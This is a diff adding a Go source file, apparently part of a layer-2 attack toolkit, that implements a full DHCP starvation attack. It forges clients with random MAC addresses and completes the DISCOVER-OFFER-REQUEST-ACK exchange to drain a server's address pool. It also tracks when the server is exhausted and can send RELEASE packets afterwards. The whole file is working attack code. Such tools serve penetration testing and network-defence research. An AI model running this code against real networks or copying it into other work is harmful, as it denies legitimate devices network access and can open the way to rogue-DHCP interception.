@@ -0,0 +1,248 @@
+package dhcp
+
+import (
+	"encoding/binary"
+	"math/rand"
+	"net"
+	"sort"
+	"sync"
+	"time"
+
+	"github.com/gnpaone/l2star/internal/utils"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+)
+
+// StarveConfig configuration for a starvation that completes the DORA exchange
+type StarveConfig struct {
+	// StallAfter is how long the server may go without offering, while DISCOVERs
+	// keep going out, before it is considered exhausted
+	StallAfter time.Duration
+	// Relay, when set, sends the DISCOVERs and REQUESTs as relayed unicast to the relay's server
+	Relay    *Relay
+	StopChan chan struct{}
+}
+
+// StarveStats counters of a starvation
+type StarveStats struct {
+	Discovers uint64
+	Offers    uint64
+	Requests  uint64
+	Acks      uint64
+	Naks      uint64
+	Leases    int
+	// SubnetSize is the number of usable addresses in the subnet offered from, 0 until an offer is seen
+	SubnetSize int
+	LastOffer  time.Time
+}
+
+// StarvedLease is an address acknowledged to one of our fake clients
+type StarvedLease struct {
+	MAC       net.HardwareAddr
+	IP        net.IP
+	Server    net.IP
+	ServerMAC net.HardwareAddr
+	LeaseTime time.Duration
+	Acquired  time.Time
+}
+
+// stallDiscovers is the number of unanswered DISCOVERs needed to call the server exhausted
+const stallDiscovers = 10
+
+// pendingTimeout is how long a transaction is waited for before it is forgotten
+const pendingTimeout = 30 * time.Second
+
+type transaction struct {
+	mac   net.HardwareAddr
+	sent  time.Time
+	lease *StarvedLease // set once the offer is requested
+}
+
+// Starver drains a DHCP pool with fake clients: Next sends each client's DISCOVER and
+// Handle answers the OFFERs with the matching REQUEST and records the ACKed leases.
+// It is safe for concurrent use.
+type Starver struct {
+	cfg StarveConfig
+
+	mu         sync.Mutex
+	stats      StarveStats
+	started    time.Time
+	unanswered int
+	pending    map[uint32]*transaction
+	leases     []StarvedLease
+}
+
+// NewStarver creates a starver
+func NewStarver(cfg StarveConfig) *Starver {
+	if cfg.StallAfter == 0 {
+		cfg.StallAfter = 5 * time.Second
+	}
+	return &Starver{
+		cfg:     cfg,
+		started: time.Now(),
+		pending: make(map[uint32]*transaction),
+	}
+}
+
+// Next returns the DISCOVER of a new fake client
+func (s *Starver) Next() ([]byte, error) {
+	mac, err := utils.RandomMAC()
+	if err != nil {
+		return nil, err
+	}
+	xid := rand.Uint32()
+	packet, err := clientMessage{mac: mac, xid: xid, msgType: layers.DHCPMsgTypeDiscover, relay: s.cfg.Relay}.craft()
+	if err != nil {
+		return nil, err
+	}
+
+	now := time.Now()
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	for id, t := range s.pending {
+		if now.Sub(t.sent) > pendingTimeout {
+			delete(s.pending, id)
+		}
+	}
+	s.pending[xid] = &transaction{mac: mac, sent: now}
+	s.stats.Discovers++
+	s.unanswered++
+	return packet, nil
+}
+
+// Handle processes a captured packet and returns the REQUEST accepting an offer made to one of our clients
+func (s *Starver) Handle(packet gopacket.Packet) [][]byte {
+	d, ok := packet.Layer(layers.LayerTypeDHCPv4).(*layers.DHCPv4)
+	if !ok || d.Operation != layers.DHCPOpReply {
+		return nil
+	}
+	now := packet.Metadata().Timestamp
+	if now.IsZero() {
+		now = time.Now()
+	}
+
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	t := s.pending[d.Xid]
+	if t == nil || d.ClientHWAddr.String() != t.mac.String() {
+		return nil
+	}
+
+	switch messageType(d) {
+	case layers.DHCPMsgTypeOffer:
+		if t.lease != nil {
+			// Another server's offer for a transaction we already requested
+			return nil
+		}
+		s.stats.Offers++
+		s.stats.LastOffer = now
+		s.unanswered = 0
+
+		server := net.IP(option(d, layers.DHCPOptServerID))
+		if len(server) != 4 {
+			if ip, ok := packet.Layer(layers.LayerTypeIPv4).(*layers.IPv4); ok {
+				server = ip.SrcIP
+			}
+		}
+		t.lease = &StarvedLease{
+			MAC:    t.mac,
+			IP:     append(net.IP(nil), d.YourClientIP.To4()...),
+			Server: append(net.IP(nil), server.To4()...),
+		}
+		if eth, ok := packet.Layer(layers.LayerTypeEthernet).(*layers.Ethernet); ok {
+			t.lease.ServerMAC = append(net.HardwareAddr(nil), eth.SrcMAC...)
+		}
+		if mask := option(d, layers.DHCPOptSubnetMask); len(mask) == 4 {
+			if ones, bits := net.IPMask(mask).Size(); bits == 32 && ones <= 30 {
+				s.stats.SubnetSize = 1<<uint(bits-ones) - 2
+			}
+		}
+
+		packet, err := clientMessage{mac: t.mac, xid: d.Xid, msgType: layers.DHCPMsgTypeRequest, relay: s.cfg.Relay, options: []layers.DHCPOption{
+			layers.NewDHCPOption(layers.DHCPOptRequestIP, t.lease.IP),
+			layers.NewDHCPOption(layers.DHCPOptServerID, t.lease.Server),
+		}}.craft()
+		if err != nil {
+			return nil
+		}
+		t.sent = now
+		s.stats.Requests++
+		return [][]byte{packet}
+
+	case layers.DHCPMsgTypeAck:
+		if t.lease == nil {
+			return nil
+		}
+		l := *t.lease
+		l.Acquired = now
+		if lease := option(d, layers.DHCPOptLeaseTime); len(lease) == 4 {
+			l.LeaseTime = time.Duration(binary.BigEndian.Uint32(lease)) * time.Second
+		}
+		delete(s.pending, d.Xid)
+		s.leases = append(s.leases, l)
+		s.stats.Acks++
+
+	case layers.DHCPMsgTypeNak:
+		delete(s.pending, d.Xid)
+		s.stats.Naks++
+	}
+	return nil
+}
+
+// Due is part of the responder interface, a starver has no delayed packets
+func (s *Starver) Due(now time.Time) [][]byte {
+	return nil
+}
+
+// Stalled reports whether the server stopped offering: several DISCOVERs went
+// unanswered and nothing was offered for StallAfter
+func (s *Starver) Stalled(now time.Time) bool {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	last := s.stats.LastOffer
+	if last.IsZero() {
+		last = s.started
+	}
+	return s.unanswered >= stallDiscovers && now.Sub(last) >= s.cfg.StallAfter
+}
+
+// Stats returns a snapshot of the starvation counters
+func (s *Starver) Stats() StarveStats {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	stats := s.stats
+	stats.Leases = len(s.leases)
+	return stats
+}
+
+// Leases returns a copy of the acquired leases, sorted by IP
+func (s *Starver) Leases() []StarvedLease {
+	s.mu.Lock()
+	out := append([]StarvedLease(nil), s.leases...)
+	s.mu.Unlock()
+
+	sort.Slice(out, func(i, j int) bool { return ipToUint(out[i].IP) < ipToUint(out[j].IP) })
+	return out
+}
+
+// ReleasePackets returns a RELEASE for every acquired lease, giving the addresses back to their servers
+func (s *Starver) ReleasePackets() ([][]byte, error) {
+	var out [][]byte
+	for _, l := range s.Leases() {
+		if l.ServerMAC == nil {
+			continue
+		}
+		packet, err := CraftDHCPRelease(l.MAC, l.IP, l.Server, l.ServerMAC)
+		if err != nil {
+			return nil, err
+		}
+		out = append(out, packet)
+	}
+	return out, nil
+}
+
+// StopChan returns the channel that stops the starvation
+func (s *Starver) StopChan() chan struct{} {
+	return s.cfg.StopChan
+}